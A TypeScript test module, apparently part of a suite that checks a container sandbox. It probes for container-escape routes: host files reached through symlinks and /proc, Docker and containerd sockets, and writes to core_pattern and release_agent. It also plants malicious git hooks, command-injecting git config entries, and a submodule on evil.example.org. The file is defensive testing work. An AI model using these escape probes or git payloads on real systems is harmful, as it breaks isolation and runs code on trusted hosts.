// Looks for files of the host: by their paths, through /proc and other processes, over sockets, devices and mounts.
import { execFileSync } from 'node:child_process';
import {
  closeSync,
  linkSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  symlinkSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { connect } from 'node:net';
import { abuse, control, lootIn } from './trial.ts';

/** The path, on the host, of a file that holds loot. */
const CANARY = process.env.ABUSE_CANARY_PATH ?? '';
const SOCKETS = [
  '/var/run/docker.sock',
  '/run/docker.sock',
  '/run/containerd/containerd.sock',
  '/run/docker/containerd/containerd.sock',
  '/run/podman/podman.sock',
  '/run/dbus/system_bus_socket',
  '/run/systemd/private',
];
/** What every container has; anything else could be a way to the machine. */
const DEVICES =
  /^(?:console|core|fd|full|mqueue|null|ptmx|pts|random|shm|stderr|stdin|stdout|tty|urandom|zero)$/;
const NEVER_WRITTEN = [
  '/proc/sys/kernel/core_pattern',
  '/proc/sys/kernel/modprobe',
  '/proc/sys/vm/overcommit_memory',
  '/proc/sysrq-trigger',
  '/sys/kernel/uevent_helper',
  '/sys/fs/cgroup/cgroup.procs',
  '/sys/fs/cgroup/memory/memory.limit_in_bytes',
  '/sys/fs/cgroup/pids/pids.max',
  '/sys/fs/cgroup/devices/devices.allow',
  '/sys/fs/cgroup/memory/release_agent',
  '/proc/1/oom_score_adj',
  '/proc/1/mem',
  '/prepared/repo/README.md',
  '/prepared/repo/.git/config',
  '/prepared/repo/.git/index',
  '/mirror/repo.git/config',
  '/mirror/repo.git/hooks/post-checkout',
  '/work/input/prompt.md',
];
const NEVER_READ = ['/proc/kcore', '/proc/1/mem', '/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/sda'];

export async function hostFiles(): Promise<void> {
  await control('its own checkout is read', () => readFileSync('/work/repo/README.md', 'utf8'));
  await abuse('host file by its path', () => read(CANARY));
  await abuse('host file by a link in the checkout', () => {
    symlinkSync(CANARY, '/work/repo/leak.txt');
    return read('/work/repo/leak.txt');
  });
  await abuse('host file by a hard link', () => {
    linkSync(CANARY, '/work/repo/leak-hard.txt');
    return read('/work/repo/leak-hard.txt');
  });
  await abuse('host file by the root or folder of another process', () => {
    const ways = pids().flatMap((pid) => [`/proc/${pid}/root`, `/proc/${pid}/cwd`]);
    return firstOf(ways.map((way) => () => read(way + CANARY)));
  });
  await abuse('an open file of another process', () =>
    firstOf(
      pids().flatMap((pid) =>
        namesIn(`/proc/${pid}/fd`).map((fd) => () => foreignFile(pid, `/proc/${pid}/fd/${fd}`)),
      ),
    ),
  );
  await abuse('host file anywhere in what is mounted', () =>
    lootIn(execFileSync('sh', ['-c', SEARCH_EVERYWHERE], { maxBuffer: 1e8 })),
  );
  await abuse('a folder of the host among the mounts', foreignMount);
  await abuse('a device that is not harmless', () => readdirSync('/dev').find((name) => !DEVICES.test(name)));
  for (const path of NEVER_READ) await abuse(`reading ${path}`, () => firstByte(path));
  for (const path of NEVER_WRITTEN) await abuse(`writing ${path}`, () => written(path));
  const named = readFileSync('/proc/net/unix', 'utf8').match(/(?<=\s)[@/]\S+$/gm) ?? [];
  const abstract = named.map((name) => name.replace(/^@/, '\0'));
  for (const path of new Set([...SOCKETS, ...abstract]))
    await abuse(`socket ${path.replace('\0', '@')}`, () => answered(path));
}

/** The values alone, from every file that can be read; what is no file is not waited for. */
const SEARCH_EVERYWHERE =
  "grep -raohsE 'loot-[0-9a-f]{24}' --devices=skip --exclude-dir=proc --exclude-dir=sys / || true";

const read = (path: string): string => readFileSync(path, 'utf8');
const isNumber = (name: string): boolean => /^\d+$/.test(name);
export const pids = (): string[] => readdirSync('/proc').filter(isNumber);

/** None where they cannot be listed: that is the control at work. */
function namesIn(folder: string): string[] {
  return firstOf([() => readdirSync(folder)]) ?? [];
}

/** Of the first way that leads anywhere. */
export function firstOf<T>(ways: readonly (() => T)[]): T | undefined {
  for (const way of ways) {
    try {
      return way();
    } catch (error) {
      if (!(error instanceof Error)) throw error;
    }
  }
  return undefined;
}

/** Of processes that are not ours: reading one of their files at all is a way in. */
function foreignFile(pid: string, path: string): string {
  const uid = /^Uid:\s+(\d+)/m.exec(read(`/proc/${pid}/status`))?.[1];
  if (uid === String(process.getuid?.())) throw new Error('our own');
  return `${path} ${readFileSync(path).length}`;
}

/** Volumes and the three files that an engine writes for a container may come from its disk, nothing else. */
function foreignMount(): string | undefined {
  const ofDisks = read('/proc/self/mountinfo')
    .split('\n')
    .filter((line) => / - (?:ext[234]|xfs|btrfs|zfs|nfs4?|9p|fuse\S*|virtiofs) /.test(line));
  return ofDisks.find((line) => !/^\S+ \S+ \S+ \S*\/(?:containers|volumes)\/[\w.-]+\/[\w./-]+ /.test(line));
}

function firstByte(path: string): string {
  const file = openSync(path, 'r');
  try {
    return `${readSync(file, Buffer.alloc(1), 0, 1, null)} byte`;
  } finally {
    closeSync(file);
  }
}

function written(path: string): string {
  const file = openSync(path, 'r+');
  try {
    return `${writeSync(file, '1')} byte`;
  } finally {
    closeSync(file);
  }
}

function answered(path: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(path, () => resolve('connected'));
    socket.on('error', reject).on('connect', () => socket.destroy());
  });
}

/** What would run on the trusted side if anybody there trusted a work tree: each leaves a file behind, and takes its time. */
export function plant(hostFolder: string): void {
  const command = `touch ${hostFolder}/pwned /work/repo/PWNED /work/out/PWNED 2>/dev/null; sleep 60`;
  const script = `#!/bin/sh\n${command}\n`;
  execFileSync('git', ['init', '-q', '/work/repo/nested']);
  mkdirSync('/work/repo/.git/hooks', { recursive: true });
  mkdirSync('/work/repo/nested/.git/hooks', { recursive: true });
  for (const hook of HOOKS) writeFileSync(`/work/repo/.git/hooks/${hook}`, script, { mode: 0o755 });
  writeFileSync('/work/repo/.git/config', configOf(command), { flag: 'a' });
  mkdirSync('/work/repo/.git/info', { recursive: true });
  writeFileSync('/work/repo/.git/info/attributes', ATTRIBUTES);
  writeFileSync('/work/repo/.git/objects/info/alternates', '/etc\n', { flag: 'a' });
  writeFileSync('/work/repo/.gitattributes', ATTRIBUTES);
  writeFileSync('/work/repo/.gitmodules', '[submodule "s"]\n path = s\n url = https://evil.example.org/s\n');
  writeFileSync(`${process.env.HOME}/.gitconfig`, configOf(command));
  writeFileSync('/work/repo/nested/.git/hooks/post-index-change', script, { mode: 0o755 });
  writeFileSync('/work/repo/nested/.git/config', configOf(command), { flag: 'a' });
  writeFileSync('/work/repo/nested/kept.txt', 'kept\n');
  symlinkSync('/', '/work/repo/everything');
}

const HOOKS = [
  'pre-commit',
  'post-commit',
  'post-checkout',
  'post-index-change',
  'reference-transaction',
  'pre-auto-gc',
  'prepare-commit-msg',
  'fsmonitor-watchman',
  'post-rewrite',
  'pre-push',
];
const ATTRIBUTES = '* filter=evil diff=evil merge=evil\n';
const configOf = (command: string): string => `
[core]
  fsmonitor = "${command}"
  hooksPath = .git/hooks
  sshCommand = "${command}"
  editor = "${command}"
  pager = "${command}"
  worktree = /
  alternateRefsCommand = "${command}"
[filter "evil"]
  clean = "${command}"
  smudge = "${command}"
  process = "${command}"
  required = true
[diff "evil"]
  textconv = "${command}"
  command = "${command}"
[diff]
  external = "${command}"
[merge "evil"]
  driver = "${command}"
[gpg]
  program = "${command}"
[commit]
  gpgSign = true
[credential]
  helper = "!${command}"
[uploadpack]
  packObjectsHook = "${command}"
[protocol "ext"]
  allow = always
[include]
  path = /etc/passwd
`;
